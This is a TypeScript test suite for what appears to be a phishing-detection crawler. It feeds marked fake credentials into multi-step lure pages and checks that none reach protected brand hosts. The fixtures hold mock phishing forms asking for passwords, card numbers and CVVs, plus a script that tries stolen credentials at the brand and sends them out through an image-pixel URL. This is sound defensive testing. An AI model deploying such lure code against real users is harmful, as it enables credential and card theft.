import { readFileSync } from 'node:fs';
import { expect } from 'chai';
import fc from 'fast-check';
import { loadBrands } from '../../classifiers/brands.ts';
import { submission } from '../../classifiers/detectors/submission.ts';
import { subjectOf } from '../../classifiers/subject.ts';
import { canaryFor } from '../../crawler/canary.ts';
import { createResolver, openEgress, parseLabMap } from '../../crawler/egress/index.ts';
import { startRange } from '../../fixtures/range/index.ts';
import { fieldPurposes, type Capture } from '../../records/index.ts';
import { part, render, startLab, type Lab } from './lab.ts';

const steps: Readonly<Record<string, string>> = {
  // Three pages of a lure: address, password, card.
  'https://lure.test/': '<h1>Sign in</h1><form method="post" action="/two"><label>E-mail <input name="mail" type="email"></label><button>Next</button></form>',
  'https://lure.test/two': '<h1>Password</h1><form method="post" action="/three"><label>Password <input name="pass" type="password"></label><button>Sign in</button></form>',
  'https://lure.test/three': '<h1>Confirm your card</h1><form method="post" action="/four"><label>Card number <input name="cardnumber" autocomplete="cc-number"></label><label>Code <input name="cvv" autocomplete="cc-csc"></label><button>Confirm</button></form>',
  'https://lure.test/four': '<h1>Thank you</h1>',
  'https://script.test/': `<h1>Mail</h1><div id="app"><form id="first"><input name="login" type="email" placeholder="E-mail"><button>Next</button></form></div><script>
    document.getElementById('first').onsubmit = (event) => { event.preventDefault(); const mail = event.target.login.value; setTimeout(() => { document.getElementById('app').innerHTML = '<p>' + mail + '</p><form action="/in" method="post"><input type="password" name="pw"></form>'; }, 300); };
  </script>`,
  // A lure that tries what it was given at the brand itself, and one that sends its form there.
  'https://checks.test/': `<h1>Sign in</h1><form><input name="user" placeholder="User name"><input type="password" name="pass"><button>Sign in</button></form><p id="p"></p><script>
    document.forms[0].onsubmit = (event) => { event.preventDefault(); const body = new URLSearchParams(new FormData(event.target)); fetch('https://api.brand.test/login', { method: 'POST', mode: 'no-cors', body }).then(() => { p.textContent = 'welcome'; }, () => { new Image().src = 'https://www.brand.test/pixel?u=' + body; p.textContent = 'Wrong password'; }); };
  </script>`,
  'https://forwards.test/': '<h1>Sign in</h1><form method="post" action="https://www.brand.test/login"><input name="user" placeholder="User name"><input type="password" name="pass"><button>Sign in</button></form>',
  'https://www.brand.test/': '<h1>Brand</h1><form method="post" action="/login"><input name="user" placeholder="User name"><input type="password" name="pass"><button>Sign in</button></form>',
  'https://letters.test/': '<h1>News</h1><form method="post" action="/newsletter"><p>Newsletter</p><input type="email" name="mail"><button>Subscribe</button></form><form action="/search"><input name="q" type="search"></form>',
};

describe('canary submissions', function () {
  this.timeout(120_000);
  let lab: Lab;
  const canary = { steps: 3, isProtected: (host: string): boolean => host === 'brand.test' || host.endsWith('.brand.test') };
  const posts = (): string[] => lab.requests.filter((request) => request.startsWith('POST'));
  const run = async (urls: readonly string[], options: Parameters<typeof render>[2]): Promise<Map<string, Capture>> => { lab.requests.length = 0; return render(lab, urls, options); };
  before(async () => {
    lab = await startLab();
    for (const [url, page] of Object.entries(steps)) lab.serve(url, page);
  });
  after(() => lab.close());

  it('types nothing and sends nothing where they are off, and says so', async () => {
    const captures = await run(Object.keys(steps), {});
    expect(posts()).to.deep.equal([]);
    expect(lab.requests.filter((request) => request.includes('?'))).to.deep.equal([]);
    for (const [url, capture] of captures) expect(capture.parts.submissions, url).to.deep.equal({ state: 'skipped', why: 'canary submissions are off' });
  });

  it('go from page to page of a lure, with data that is marked, and take along what the last one shows', async () => {
    const capture = (await run(['https://lure.test/'], { canary })).get('https://lure.test/');
    const done = part(capture, 'submissions');
    expect(done.map(({ purposes, outcome }) => [purposes.join(), outcome])).to.deep.equal([['email', 'moved-on'], ['password', 'moved-on'], ['card-number,card-code', 'moved-on']]);
    expect(new Set(done.map(({ marker }) => marker)).size).to.equal(1);
    expect(posts()).to.deep.equal(['POST lure.test/two', 'POST lure.test/three', 'POST lure.test/four']);
    const sent = part(capture, 'requests').flatMap(({ postData }) => postData ?? []).join('\n');
    expect(sent).to.contain(`${done[0]?.marker}%40example.com`);
    expect(part(capture, 'frames')[0]?.text).to.contain('Thank you');
    expect(part(capture, 'redirects').filter(({ by }) => by === 'form')).to.have.length(3);
  });

  it('stop at the number of steps that was set', async () => {
    await run(['https://lure.test/'], { canary: { ...canary, steps: 1 } });
    expect(posts()).to.deep.equal(['POST lure.test/two']);
  });

  it('follow a step that a script makes', async () => {
    const capture = (await run(['https://script.test/'], { canary: { ...canary, steps: 1 } })).get('https://script.test/');
    expect(part(capture, 'forms').flatMap(({ fields }) => fields.map(({ purpose }) => purpose))).to.include('password');
    expect(part(capture, 'frames')[0]?.text).to.match(/hr[0-9a-f]{10}@example\.com/);
  });

  it('hand nothing to a protected owner: not from its page, not to its form, not by a script', async () => {
    const captures = await run(['https://www.brand.test/', 'https://forwards.test/', 'https://checks.test/'], { canary });
    expect(lab.requests.filter((request) => request.includes('brand.test') && !request.startsWith('GET www.brand.test/ ') && request !== 'GET www.brand.test/' && !request.includes('favicon'))).to.deep.equal([]);
    for (const url of ['https://www.brand.test/', 'https://forwards.test/']) expect(part(captures.get(url), 'submissions').map(({ outcome }) => outcome), url).to.deep.equal(['not-sent']);
    const [checked] = part(captures.get('https://checks.test/'), 'submissions');
    expect(checked).to.deep.include({ outcome: 'stayed', blockedHosts: ['api.brand.test', 'www.brand.test'] });
    expect(part(captures.get('https://checks.test/'), 'frames')[0]?.text).to.contain('Wrong password');
  });

  it('tell a page that tries what it was given at the brand', async () => {
    const capture = (await run(['https://checks.test/'], { canary })).get('https://checks.test/') ?? expect.fail('no capture');
    const brands = loadBrands({ date: '2026-11-25', brands: [{ name: 'Brand', domains: ['brand.test'], aliases: ['brand'] }] });
    expect(submission.detect(subjectOf(capture, brands, null)).map(({ name, brand }) => [name, brand])).to.deep.equal([['submission/tried-at-brand', 'Brand']]);
  });

  it('tell a lure of the range that refuses the first password, takes the second, and leaves to the brand', async () => {
    const range = await startRange();
    const egress = await openEgress({ resolve: createResolver(), lab: parseLabMap(range.labMap) });
    try {
      const url = 'https://nordhaven-customer-area.test/access';
      const capture = (await render(lab, [url], { canary: { steps: 3, isProtected: (host) => `.${host}`.endsWith('.nordhaven.test') }, egress, extraCa: range.caPem })).get(url) ?? expect.fail('no capture');
      expect(part(capture, 'submissions').map(({ outcome }) => outcome)).to.deep.equal(['stayed', 'moved-on', 'not-sent']);
      const brands = loadBrands({ date: '2026-11-25', brands: JSON.parse(readFileSync(new URL('../../fixtures/range/brands.json', import.meta.url), 'utf8')) as [] });
      expect(submission.detect(subjectOf(capture, brands, null)).map(({ name, brand }) => [name, brand])).to.deep.equal([['submission/left-to-brand', 'Nordhaven Bank'], ['submission/accepted-second', null]]);
    } finally {
      await egress.close();
      await range.close();
    }
  });

  it('subscribe to nothing and search for nothing', async () => {
    const capture = (await run(['https://letters.test/'], { canary })).get('https://letters.test/');
    expect(part(capture, 'submissions')).to.deep.equal([]);
    expect(posts()).to.deep.equal([]);
  });

  it('are made up: no card number is one, and each capture has its own', () => {
    const luhn = (number: string): boolean => [...number].reverse().reduce((sum, digit, index) => { const value = Number(digit) * (index % 2 === 1 ? 2 : 1); return sum + (value > 9 ? value - 9 : value); }, 0) % 10 === 0;
    expect(luhn('4111111111111111')).to.equal(true);
    fc.assert(fc.property(fc.stringMatching(/^hr[0-9a-f]{10}$/), (marker) => {
      const card = canaryFor('card-number', marker);
      expect(card).to.match(/^9999\d{12}$/);
      expect(luhn(card), card).to.equal(false);
      for (const purpose of fieldPurposes) expect(canaryFor(purpose, marker), purpose).to.not.equal('');
      expect(canaryFor('phone', marker)).to.match(/^\+1202555010\d$|^\+12025550(?:1\d\d)$/);
      expect(canaryFor('password', marker, 8)).to.have.length(8);
    }));
  });
});
